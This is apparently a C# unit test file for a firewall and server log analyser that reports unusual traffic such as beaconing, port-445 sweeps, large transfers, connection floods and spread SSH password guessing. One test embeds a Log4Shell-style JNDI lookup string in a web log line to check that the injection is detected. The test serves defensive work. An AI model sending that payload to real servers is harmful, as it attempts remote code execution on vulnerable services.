using System.Text;
using Merlon.Context;
using Merlon.Context.Syntax;
using Merlon.RootCause.Causes;
using Merlon.RootCause.Logs;
using Merlon.RootCause.Policies;
using Merlon.RootCause.Reports;

namespace Merlon.RootCause;

/// <summary>What is unusual is told, and is no verdict; what the operator protects is never refused.</summary>
public sealed class OddityTests
{
    const string Head = "time,src,sport,dst,dport,proto,action,sent,reason\n";

    static readonly DateTime Start = new(2026, 2, 3, 10, 0, 0, DateTimeKind.Utc);

    public static TheoryData<string, string> Unusual => new()
    {
        {
            "10.0.0.5 called 203.0.113.9 port 443/tcp 30 times at an even pace",
            Rows(30, i => Row(i * 61, "10.0.0.5", "203.0.113.9", 443, 500))
        },
        {
            "10.0.0.5 reached 40 hosts of the site at port 445",
            Rows(40, i => Row(i * 7, "10.0.0.5", $"10.0.1.{i + 1}", 445, 500))
        },
        {
            "10.0.0.5 sent 900000000 bytes to 198.51.100.7 port 443/tcp",
            Row(0, "10.0.0.6", "198.51.100.8", 443, 70_000) + Row(9, "10.0.0.5", "198.51.100.7", 443, 900_000_000)
        },
        {
            "600 connections with 10.0.0.5 port 443/tcp came within a minute",
            Rows(9, i => Row(i * 60, "198.51.100.1", "10.0.0.5", 443, 100))
                + Rows(600, i => Row(600 + (i / 20), $"198.51.{i % 100}.7", "10.0.0.5", 443, 100))
        },
    };

    [Theory]
    [MemberData(nameof(Unusual))]
    public void What_is_unusual_is_told_without_a_verdict(string told, string rows)
    {
        var report = Reported(Head + rows, out var diagnosis);

        Assert.Equal(["no-incident"], report.Answer);
        Assert.Contains(report.Oddities, claim => claim.Text.Contains(told, StringComparison.Ordinal));
        Assert.Contains("unusual", report.Issue.Text, StringComparison.Ordinal);
        var checker = new ClaimChecker([Reader(Head + rows)], diagnosis.Book.Clocks, diagnosis.Policy!.Text, [],
            report.Cited);
        Assert.All(report.Claims, claim => Assert.Null(checker.WhyNot(claim)));
    }

    [Fact]
    public void The_usual_is_not()
    {
        var random = new Random(7);
        var rows = Rows(60, i => Row(i * 40 + random.Next(35), $"10.0.0.{5 + (i % 3)}", "203.0.113.9", 443, 9000));

        var report = Reported(Head + rows, out _);

        Assert.Empty(report.Oddities);
        Assert.DoesNotContain("unusual", report.Issue.Text, StringComparison.Ordinal);
    }

    [Fact]
    public void Guessing_that_is_spread_is_told()
    {
        var lines = Rows(20, i => $"2026-02-03T10:{i:00}:00Z host sshd[{i + 1}]: Failed password for root from"
            + $" 203.0.113.{i + 1} port {50000 + i} ssh2\n");

        var report = Reported(lines, out _);

        Assert.Contains(report.Oddities, claim => claim.Text.StartsWith("20 logins", StringComparison.Ordinal));
    }

    [Fact]
    public void A_request_that_breaks_in_is_told()
    {
        const string line = "203.0.113.7 - - [03/Feb/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" "
            + "\"${jndi:ldap://203.0.113.7/a}\"\n";

        var report = Reported(line, out _);

        Assert.Contains(report.Oddities, claim => claim.Text.Contains("only an attack has", StringComparison.Ordinal));
        Assert.NotEmpty(report.Injections);
    }

    [Theory]
    [InlineData("", "over-permissive-rule")]
    [InlineData("admins: [203.0.113.7]\ninternal: [10.0.0.0/8]\n", "insufficient-evidence")]
    public void No_fix_refuses_what_the_operator_protects(string context, string answer)
    {
        var rows = Rows(6, i => Row(i * 50, $"198.51.100.{i + 1}", "10.0.0.5", 443, 100))
            + Row(400, "203.0.113.7", "10.0.0.5", 8009, 100)
            + Row(401, "203.0.113.7", "10.0.0.5", 8009, 0)
                .Replace("40401", "40400", StringComparison.Ordinal)
                .Replace("Allowed,0,", "Alert,,Webshell", StringComparison.Ordinal);
        var site = context.Length == 0 ? SiteContext.None : SiteContextReader.Read(context).Context!;

        var diagnosis = Diagnostician.Diagnose(LogBook.Read([Reader(Head + rows)]), Rules(), site);

        Assert.Contains(answer, diagnosis.Answer);
        var report = ReportBuilder.Of(diagnosis);
        Assert.Equal(context.Length > 0,
            report.Unknowns.Any(claim => claim.Text.Contains("protects", StringComparison.Ordinal)));
    }

    static Report Reported(string log, out Diagnosis diagnosis)
    {
        diagnosis = Diagnostician.Diagnose(LogBook.Read([Reader(log)]), Rules());
        return ReportBuilder.Of(diagnosis);
    }

    static Policy Rules() => PolicyReader.Read(new([new("rules.v4", "*filter\n:FORWARD DROP [0:0]\n"
        + "-A FORWARD -s 10.0.0.0/8 -j ACCEPT\n"
        + "-A FORWARD -d 10.0.0.5/32 -p tcp -m tcp --dport 1:65535 -j ACCEPT\nCOMMIT\n")]), out _)!;

    static LogReader Reader(string log) => new(new MemoryStream(Encoding.UTF8.GetBytes(log)), 0, "fw.csv", default);

    static string Rows(int count, Func<int, string> row) => string.Concat(Enumerable.Range(0, count).Select(row));

    static string Row(int second, string source, string destination, int port, long sent) =>
        $"{Start.AddSeconds(second):yyyy-MM-dd HH:mm:ss}Z,{source},{40000 + (second % 20000)},{destination},{port},TCP,"
        + $"Allowed,{sent},\n";
}
